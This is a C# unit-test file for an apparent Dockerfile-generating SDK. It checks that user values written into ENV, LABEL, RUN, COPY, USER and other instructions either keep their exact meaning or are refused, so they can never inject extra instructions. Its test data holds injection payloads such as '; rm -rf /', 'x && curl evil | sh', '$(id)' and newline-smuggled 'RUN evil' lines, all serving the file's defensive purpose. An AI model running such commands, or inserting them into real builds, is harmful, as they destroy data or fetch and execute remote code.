using Containerize.Sdk.Dockerfiles;
using Containerize.Sdk.Planning;
using Containerize.Sdk.Planning.FinalStage;
using Containerize.Sdk.Slicing;

namespace Containerize.Sdk.Tests.Dockerfiles;

/// <summary>
/// Every place a user's value reaches the Dockerfile, with values built to break out of it. Each value either comes
/// out so that the engine reads exactly the value, or the writer refuses it (ArgumentException, which the task reports
/// as an error); and a written Dockerfile never holds an instruction the spec did not ask for.
/// </summary>
[TestClass]
public sealed class HostileValueTests
{
    private static readonly string[] Values =
    {
        "plain",
        "a b",
        "a\"b",
        "it's",
        "$HOME",
        "${PATH}",
        "a\\b",
        "trailing\\",
        "\\",
        "`id`",
        "$(id)",
        "; rm -rf /",
        "x && curl evil | sh",
        "#comment",
        "<<EOF",
        "tab\there",
        "ünïcödé 名前",
        "\u2028RUN evil",
        "a=b",
        "a,b",
        "--platform=linux/arm64",
        "*",
        "[x]",
        "",
        "\nRUN evil",
        "x\nRUN evil",
        "x\r\nRUN evil",
        "x\rRUN evil",
        "x\n",
    };

    private delegate ContainerSpec Apply(ContainerSpec spec, string value);

    private delegate string Read(string dockerfile);

    /// <summary>Where a value goes, how to read it back from the text, and which values the place must accept.</summary>
    private sealed record Place(string Name, Apply Apply, Read Read, Func<string, bool> MustAccept);

    private static readonly Place[] Places =
    {
        new("ENV value", (spec, v) => spec with { FinalStage = spec.FinalStage with { EnvironmentVariables = Pair("GREETING", v) } }, text => Pair(text, "ENV", "GREETING"), Quotable),
        new("ENV name", (spec, v) => spec with { FinalStage = spec.FinalStage with { EnvironmentVariables = Pair(v, "x") } }, text => DockerfileReader.Pairs(DockerfileReader.Single(text, "ENV")).Single().Key, Bare),
        new("LABEL value", (spec, v) => spec with { FinalStage = spec.FinalStage with { Labels = Pair("org.example.note", v) } }, text => Pair(text, "LABEL", "org.example.note"), Quotable),
        new("LABEL key", (spec, v) => spec with { FinalStage = spec.FinalStage with { Labels = Pair(v, "x") } }, text => DockerfileReader.Pairs(DockerfileReader.Instructions(text).First(line => line.Keyword == "LABEL").Arguments).Single().Key, Quotable),
        new("ENTRYPOINT argument", (spec, v) => spec with { FinalStage = spec.FinalStage with { Entrypoint = new[] { "dotnet", "Web.dll", v } } }, text => DockerfileReader.JsonArray(DockerfileReader.Single(text, "ENTRYPOINT"))[2], _ => true),
        new("CMD argument", (spec, v) => spec with { FinalStage = spec.FinalStage with { Command = new[] { v } } }, text => DockerfileReader.JsonArray(DockerfileReader.Single(text, "CMD")).Single(), _ => true),
        new("HEALTHCHECK command", (spec, v) => spec with { FinalStage = spec.FinalStage with { HealthCheck = new HealthCheckSpec { Command = new[] { "curl", "-f", v } } } }, text => HealthcheckCommand(text)[2], _ => true),
        new("HEALTHCHECK --interval", (spec, v) => spec with { FinalStage = spec.FinalStage with { HealthCheck = new HealthCheckSpec { Command = new[] { "true" }, Interval = v } } }, text => HealthcheckOption(text, "interval"), Bare),
        new("STOPSIGNAL", (spec, v) => spec with { FinalStage = spec.FinalStage with { StopSignal = v } }, text => DockerfileReader.Single(text, "STOPSIGNAL"), Bare),
        new("USER", (spec, v) => spec with { User = v }, text => DockerfileReader.Single(text, "USER"), Bare),
        new("final base image", (spec, v) => spec with { BaseImage = v }, text => FromImage(text, "final"), Bare),
        new("sdk image", (spec, v) => spec with { SdkImage = v }, text => FromImage(text, "build"), Bare),
        new("OS package (RUN word)", (spec, v) => spec with { PackageManager = OsPackageManager.Apk, FinalStage = spec.FinalStage with { OsPackages = new[] { "curl", v } } }, text => RunWords(text, "apk")[4], Quotable),
        new("apt package (RUN word)", (spec, v) => spec with { PackageManager = OsPackageManager.Apt, FinalStage = spec.FinalStage with { OsPackages = new[] { v } } }, text => RunWords(text, "apt-get")[7], Quotable),
        new("Configuration (RUN word)", (spec, v) => spec with { Configuration = v }, text => After(RunWords(text, "dotnet", "publish"), "-c"), Quotable),
        new("RuntimeIdentifier (RUN word)", (spec, v) => spec with { RuntimeIdentifier = v }, text => After(RunWords(text, "dotnet", "restore"), "-r"), Quotable),
        new("project path (RUN word)", (spec, v) => spec with { ProjectPath = v }, text => RunWords(text, "dotnet", "restore")[2], Quotable),
        new("restore input (COPY)", (spec, v) => spec with { RestoreInputs = new[] { "src/" + v + "/Web.csproj" } }, text => DockerfileReader.JsonArray(CopyLines(text)[0])[0].Substring(4).Replace("/Web.csproj", ""), Path),
        new("local feed (COPY)", (spec, v) => spec with { RestoreInputs = new[] { "feeds/" + v + "/" } }, text => DockerfileReader.JsonArray(CopyLines(text)[0])[1][6..^1], Path),
        new("static file source (COPY)", (spec, v) => spec with { FinalStage = spec.FinalStage with { Files = new[] { new ContainerFileSpec(v, "/etc/app/", null) } } }, text => DockerfileReader.JsonArray(CopyLines(text)[2])[0], Path),
        new("static file destination (COPY)", (spec, v) => spec with { FinalStage = spec.FinalStage with { Files = new[] { new ContainerFileSpec("config/app.json", v, null) } } }, text => DockerfileReader.JsonArray(CopyLines(text)[2])[1], Path),
        new("WORKDIR", (spec, v) => spec with { WorkingDirectory = v }, text => DockerfileReader.Instructions(text).Where(line => line.Keyword == "WORKDIR").Last().Arguments, Path),
        new("sliced file (RUN word)", (spec, v) => spec with { Slices = new SliceLayout(new[] { new SlicedFile(v, Slice.Packages) }, includeSymbols: false) }, SlicedFile, Quotable),
    };

    public static IEnumerable<object[]> PlaceNames() => Places.Select(place => new object[] { place.Name });

    [TestMethod]
    [DynamicData(nameof(PlaceNames))]
    public void AValueComesOutMeaningItselfOrIsRefused(string placeName)
    {
        Place place = Places.Single(candidate => candidate.Name == placeName);
        var failures = new List<string>();
        foreach (string value in Values)
        {
            ContainerSpec spec = FullSpec();
            spec = place.Apply(spec, value);
            Dockerfile model;
            string text;
            try
            {
                // The planner quotes some words itself (the slice moves), so it may refuse a value too.
                model = DockerfilePlanner.Plan(spec);
                text = DockerfileWriter.Write(model);
            }
            catch (ArgumentException)
            {
                if (place.MustAccept(value))
                {
                    failures.Add($"{Show(value)}: refused, but this place can hold it");
                }

                continue;
            }

            if (!place.MustAccept(value))
            {
                failures.Add($"{Show(value)}: written, but this place cannot hold it safely:\n{text}");
                continue;
            }

            try
            {
                CollectionAssert.AreEqual(ExpectedKeywords(model), DockerfileReader.Keywords(text).ToArray(), "instructions");
                Assert.IsFalse(text.Split('\n').Any(line => line.TrimStart().StartsWith("RUN evil", StringComparison.OrdinalIgnoreCase)), "an injected RUN");
                Assert.AreEqual(value, place.Read(text), "the engine reads another value");
            }
            catch (Exception exception) when (exception is AssertFailedException or InvalidOperationException or ArgumentException or IndexOutOfRangeException or System.Text.Json.JsonException)
            {
                failures.Add($"{Show(value)}: {exception.Message}\n{text}");
            }
        }

        Assert.IsEmpty(failures, placeName + "\n" + string.Join("\n\n", failures));
    }

    [TestMethod]
    public void TheFullSpecWritesEveryKindOfInstructionOnce()
    {
        // The hostile-value test is only as good as the spec it starts from: every place must be in the Dockerfile.
        string text = DockerfileWriter.Write(DockerfilePlanner.Plan(FullSpec()));

        CollectionAssert.AreEqual(
            new[]
            {
                "FROM", "WORKDIR", "COPY", "ARG", "RUN", "COPY", "ARG", "RUN",
                "FROM", "RUN", "COPY", "ENV", "LABEL", "EXPOSE", "HEALTHCHECK", "STOPSIGNAL", "USER", "COPY", "WORKDIR", "ENTRYPOINT", "CMD", "LABEL",
            },
            DockerfileReader.Keywords(text).ToArray(),
            text);
    }

    /// <summary>
    /// Through the factory, hostile property values end as a coded error or a Dockerfile that means them; never as extra
    /// instructions, and never as a value the factory accepted and the writer then refused (the task's late CTZ1099).
    /// </summary>
    [TestMethod]
    public void HostileProjectPropertiesNeverAddInstructions()
    {
        var failures = new List<string>();
        foreach (string value in Values)
        {
            int index = -1;
            foreach (Action<ContainerSettings> apply in new Action<ContainerSettings>[]
            {
                settings => settings.User = value,
                settings => settings.WorkingDirectory = "/app/" + value,
                settings => settings.Configuration = value,
                settings => settings.RuntimeIdentifier = "linux-" + value,
                settings => settings.Family = value,
                settings => settings.BaseImage = "mcr.microsoft.com/dotnet/aspnet:10.0" + value,
                settings => settings.SdkImage = value,
                settings => settings.ImageTag = value,
                settings => settings.Repository = value,
                settings => settings.AssemblyName = value,
                settings => settings.ProjectFullPath = Planning.FactorySettings.In("src", "Web" + value, "Web.csproj"),
                settings => settings.RestoreInputs = new[] { Planning.FactorySettings.In("src", "Web", "Web.csproj"), Planning.FactorySettings.In("src", value + ".props") },
            })
            {
                index++;
                ContainerSettings settings = Planning.FactorySettings.WebApp();
                apply(settings);
                ContainerSpecResult result = ContainerSpecFactory.Create(settings);
                if (result.Spec == null)
                {
                    if (!result.Diagnostics.Any(diagnostic => diagnostic.Code.StartsWith("CTZ", StringComparison.Ordinal)))
                    {
                        failures.Add(Show(value) + ": no spec and no coded error");
                    }

                    continue;
                }

                Dockerfile model;
                string text;
                try
                {
                    model = DockerfilePlanner.Plan(result.Spec);
                    text = DockerfileWriter.Write(model);
                }
                catch (ArgumentException exception)
                {
                    failures.Add($"setting {index} {Show(value)}: validated, then refused by the writer: {exception.Message}");
                    continue;
                }

                try
                {
                    CollectionAssert.AreEqual(ExpectedKeywords(model), DockerfileReader.Keywords(text).ToArray());
                    Assert.IsFalse(text.Split('\n').Any(line => line.TrimStart().StartsWith("RUN evil", StringComparison.OrdinalIgnoreCase)));
                }
                catch (AssertFailedException exception)
                {
                    failures.Add($"{Show(value)}: {exception.Message}\n{text}");
                }
            }
        }

        Assert.IsEmpty(failures, string.Join("\n\n", failures));
    }

    /// <summary>A spec that uses every instruction the writer knows, with plain values.</summary>
    private static ContainerSpec FullSpec() => new()
    {
        Mode = ContainerizeMode.Source,
        ProjectPath = "src/Web/Web.csproj",
        AssemblyName = "Web",
        SdkImage = "mcr.microsoft.com/dotnet/sdk:10.0",
        BaseImage = "mcr.microsoft.com/dotnet/aspnet:10.0",
        UseBuildKit = true,
        MountsNuGetCache = true,
        RestoreInputs = new[] { "src/Web/Web.csproj" },
        PackageManager = OsPackageManager.Apt,

        FinalStage = new FinalStageSpec
        {
            OsPackages = new[] { "curl" },
            Files = new[] { new ContainerFileSpec("config/app.json", "/etc/app/", "0644") },
            EnvironmentVariables = Pair("GREETING", "hello"),
            Labels = Pair("org.example.note", "note"),
            VolatileLabels = Pair("org.opencontainers.image.created", "2025-01-01T00:00:00Z"),
            Ports = new[] { new ContainerPortSpec(8080, "tcp") },
            HealthCheck = new HealthCheckSpec { Command = new[] { "curl", "-f", "http://localhost:8080/" }, Interval = "30s" },
            StopSignal = "SIGTERM",
            Entrypoint = new[] { "dotnet", "Web.dll" },
            Command = new[] { "--urls", "http://+:8080" },
        },
    };

    /// <summary>The instruction keywords the model asks for, in order.</summary>
    private static string[] ExpectedKeywords(Dockerfile model)
    {
        var keywords = new List<string>();
        foreach (Stage stage in model.Stages)
        {
            keywords.Add("FROM");
            foreach (Instruction instruction in stage.Instructions)
            {
                if (instruction is CommentInstruction)
                {
                    continue;
                }

                string name = instruction.GetType().Name;
                keywords.Add(name.Substring(0, name.Length - "Instruction".Length).ToUpperInvariant() switch
                {
                    "STOPSIGNAL" => "STOPSIGNAL",
                    string keyword => keyword,
                });
            }
        }

        return keywords.ToArray();
    }

    /// <summary>ENV and LABEL values and RUN words: anything but a line break, which no quoting can hold there.</summary>
    private static bool Quotable(string value) => value.IndexOf('\n') < 0 && value.IndexOf('\r') < 0;

    /// <summary>Places written as they are: a single option-free word with nothing the engine would interpret.</summary>
    private static bool Bare(string value) =>
        value.Length > 0 && value[0] != '-' && !value.Any(c => char.IsWhiteSpace(c) || char.IsControl(c) || "\"'\\`$=,".Contains(c));

    /// <summary>COPY and WORKDIR paths: the engine expands $, reads quotes and backslashes, and globs * ? [ in sources.</summary>
    private static bool Path(string value) => !value.Any(c => char.IsControl(c) || "$\\\"'`*?[".Contains(c));

    private static KeyValuePair<string, string>[] Pair(string key, string value) => new[] { new KeyValuePair<string, string>(key, value) };

    private static string Pair(string text, string keyword, string key) =>
        DockerfileReader.Pairs(DockerfileReader.Instructions(text).First(line => line.Keyword == keyword).Arguments).Single(pair => pair.Key == key).Value;

    private static string[] HealthcheckCommand(string text)
    {
        string rest = DockerfileReader.Single(text, "HEALTHCHECK");
        return DockerfileReader.JsonArray(rest.Substring(rest.IndexOf("CMD [", StringComparison.Ordinal) + 4));
    }

    private static string HealthcheckOption(string text, string option)
    {
        string prefix = "--" + option + "=";
        string rest = DockerfileReader.Single(text, "HEALTHCHECK");
        return rest.Split(' ').Single(word => word.StartsWith(prefix, StringComparison.Ordinal)).Substring(prefix.Length);
    }

    /// <summary>The image of the stage with the given name: FROM [--platform=…] image AS name.</summary>
    private static string FromImage(string text, string stage)
    {
        string[] words = DockerfileReader.Instructions(text).Where(line => line.Keyword == "FROM").Select(line => line.Arguments.Split(' ')).Single(words => words[^1] == stage);
        Assert.AreEqual("AS", words[^2]);
        return words[^3];
    }

    /// <summary>The words /bin/sh gets for the RUN whose command starts with the given words (after any --mount options).</summary>
    private static IReadOnlyList<string> RunWords(string text, params string[] start)
    {
        foreach ((string keyword, string rest) in DockerfileReader.Instructions(text).Where(line => line.Keyword == "RUN"))
        {
            string command = rest;
            while (command.StartsWith("--mount=", StringComparison.Ordinal))
            {
                command = command.Substring(command.IndexOf(' ') + 1);
            }

            // The planner's own subshell after the publish (the sort and the layer folders) quotes its words the same way.
            int subshell = command.IndexOf(" && ( ", StringComparison.Ordinal);
            command = subshell < 0 ? command : command.Substring(0, subshell);

            // The command may follow the planner's own words (the response file the dotnet commands read).
            IReadOnlyList<string> words = DockerfileReader.ShellWords(command);
            for (int at = 0; at + start.Length <= words.Count; at++)
            {
                if (words.Skip(at).Take(start.Length).SequenceEqual(start))
                {
                    return words.Skip(at).ToList();
                }
            }
        }

        throw new InvalidOperationException("No RUN " + string.Join(" ", start));
    }

    /// <summary>The file the build stage's move_to call gets: the words after "move_to packages", up to the planner's next ';'.</summary>
    private static string SlicedFile(string text)
    {
        const string call = " move_to packages ";
        string run = DockerfileReader.Instructions(text).Single(line => line.Keyword == "RUN" && line.Arguments.Contains(call)).Arguments;
        string files = run.Substring(run.IndexOf(call, StringComparison.Ordinal) + call.Length);
        int end = files.IndexOf(" ; ", StringComparison.Ordinal);
        return DockerfileReader.ShellWords(end < 0 ? files : files.Substring(0, end)).Single();
    }

    private static string After(IReadOnlyList<string> words, string option) => words[words.ToList().IndexOf(option) + 1];

    private static string[] CopyLines(string text) =>
        DockerfileReader.Instructions(text).Where(line => line.Keyword == "COPY").Select(line => line.Arguments.Substring(line.Arguments.IndexOf('['))).ToArray();

    private static string Show(string value) => "'" + value.Replace("\r", "\\r").Replace("\n", "\\n").Replace("\t", "\\t") + "'";
}
